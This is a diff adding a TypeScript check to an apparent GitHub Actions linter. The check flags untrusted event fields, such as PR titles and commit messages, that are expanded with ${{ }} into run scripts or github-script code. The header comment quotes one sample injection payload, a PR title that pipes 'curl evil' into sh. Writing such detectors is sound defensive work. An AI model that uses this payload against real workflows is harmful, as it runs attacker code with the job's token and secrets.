@@ -1,0 +1,65 @@
+// workflow-script-injection: an attacker-controlled event field expanded with `${{ }}` straight into
+// a `run:` script (or an actions/github-script `script:`) (RULES.md, security). GitHub substitutes
+// the text before the shell parses it, so a PR title like `"; curl evil | sh #` runs as code with
+// the job's token. Passing the value through `env:` and quoting "$VAR" is safe and not reported.
+// https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
+import { WORKFLOW_GLOBS, workflowOf } from '../../analysis/workflow.js';
+import { defineCheck } from '../../model/check.js';
+
+const STAR = String.raw`(?:\.\*|\[[^\]]*\])?`;
+const AUTHOR = String.raw`author\.(?:email|name)`;
+export const UNTRUSTED = new RegExp(
+  String.raw`\bgithub\s*\.\s*(?:head_ref\b|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages${STAR}\.page_name|commits${STAR}\.(?:message|${AUTHOR})|head_commit\.(?:message|${AUTHOR})|workflow_run\.(?:head_branch|head_commit\.(?:message|${AUTHOR}))))`,
+);
+
+export default defineCheck({
+  meta: {
+    id: 'workflow-script-injection',
+    pure: true,
+    files: WORKFLOW_GLOBS,
+    messages: {
+      injection: '`{expr}` is expanded into the {where} of job `{job}` in {workflow}: anyone who controls that field can run code in the job, with its token and secrets.',
+    },
+    remediation:
+      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`; never put untrusted `${{ }}` expressions inside `run:` or `script:`.',
+  },
+  create(ctx) {
+    return {
+      file(f) {
+        const wf = workflowOf(f);
+        if (wf.malformed !== undefined) ctx.malformed(f.path, 'workflow', wf.malformed);
+        for (const job of wf.jobs) {
+          for (const step of job.steps) {
+            const sources: Array<{ text: string; where: string; lineAt: (offset: number) => number }> = [];
+            if (step.run) {
+              const run = step.run;
+              sources.push({ text: run.text, where: 'run script', lineAt: (o) => run.fileLine(countLines(run.text, o)) });
+            }
+            const script = step.with['script'];
+            if (script !== undefined && step.uses?.owner === 'actions' && step.uses.repo === 'github-script') {
+              sources.push({ text: script, where: 'github-script code', lineAt: () => step.line });
+            }
+            for (const s of sources) {
+              for (const m of s.text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
+                const hit = UNTRUSTED.exec(m[1]!);
+                if (!hit) continue;
+                ctx.report({
+                  messageId: 'injection',
+                  location: { path: f.path, line: s.lineAt(m.index) },
+                  data: { expr: `\${{ ${m[1]!.trim()} }}`, where: s.where, job: job.id, workflow: f.path },
+                  fingerprintKey: `${job.id}:${m[1]!.trim()}`,
+                });
+              }
+            }
+          }
+        }
+      },
+    };
+  },
+});
+
+function countLines(s: string, end: number): number {
+  let n = 0;
+  for (let i = s.indexOf('\n'); i !== -1 && i < end; i = s.indexOf('\n', i + 1)) n++;
+  return n;
+}
